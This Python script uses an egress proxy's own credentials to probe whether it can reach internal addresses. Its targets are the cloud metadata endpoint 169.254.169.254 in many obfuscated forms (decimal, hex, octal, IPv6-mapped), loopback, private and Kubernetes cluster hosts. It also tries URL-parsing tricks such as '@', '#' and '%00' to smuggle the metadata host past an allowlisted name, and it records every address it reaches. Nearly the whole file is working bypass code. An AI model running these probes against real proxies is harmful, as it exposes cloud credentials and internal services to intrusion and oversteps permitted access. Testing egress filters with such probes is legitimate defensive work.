"""Asks the egress proxy, with its own pass, for addresses inside in every way to write them."""

import base64
import json
import os
import socket
import sys
import urllib.parse

given = json.loads(sys.stdin.read())
listed = given["listed"]
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
leave = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
INSIDE = {
    "metadata": ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe",
                 "0251.0376.0251.0376", "025177524776", "169.254.43518", "169.16689662",
                 "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]",
                 "::ffff:169.254.169.254", "[64:ff9b::a9fe:a9fe]", "169.254.169.254.",
                 "metadata.google.internal", "metadata", "instance-data"),
    "private": (given["private"], given["private-name"], "0x0AC80005", "180879365", "012.0310.0.5"),
    "own": ("127.0.0.1", "localhost", "0", "0.0.0.0", "[::1]", "2130706433", "127.1"),
    "cluster": (given["api"], "kubernetes.default.svc.cluster.local", "kubernetes.default",
                given["node"]),
}  # fmt: skip
TRICKS = (
    f"CONNECT {listed}@169.254.169.254:443 HTTP/1.1",
    f"CONNECT {listed}:443@169.254.169.254:80 HTTP/1.1",
    f"CONNECT 169.254.169.254:80#{listed}:443 HTTP/1.1",
    f"CONNECT {listed}:443/@169.254.169.254 HTTP/1.1",
    f"CONNECT {listed}%00.169.254.169.254:443 HTTP/1.1",
    f"CONNECT {listed}:443\tHTTP/1.1",
    f"CONNECT {listed}.:443 HTTP/1.1",
    f"CONNECT {listed}:080 HTTP/1.1",
    f"CONNECT {listed}:80 HTTP/1.1",
    "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1",
    f"GET http://{listed}/ HTTP/1.1",
    "GET / HTTP/1.1",
)


def status(line, host):
    try:
        with socket.create_connection((proxy.hostname, proxy.port), timeout=15) as asked:
            head = f"{line}\r\nHost: {host}\r\nProxy-Authorization: Basic {leave}\r\n\r\n"
            asked.sendall(head.encode())
            said = asked.recv(4096).split()
            return said[1].decode() if len(said) > 1 else "nothing"
    except OSError as error:
        return type(error).__name__


said = [f"listed {status(f'CONNECT {listed}:443 HTTP/1.1', listed)}"]
for kind, hosts in INSIDE.items():
    for host in hosts:
        for port in (443, 80, 6443):
            said.append(f"{kind} {host}:{port} {status(f'CONNECT {host}:{port} HTTP/1.1', listed)}")
said += [f"trick {line!r} {status(line, '169.254.169.254')}" for line in TRICKS]
refused = ("403", "405", "400")
reached = [line for line in said[1:] if not line.endswith(refused)]
with open("reached.txt", "w") as file:
    file.write("\n".join([f"tried {len(said)}", said[0], *(f"reached {line}" for line in reached)]))
print("\n".join(said))
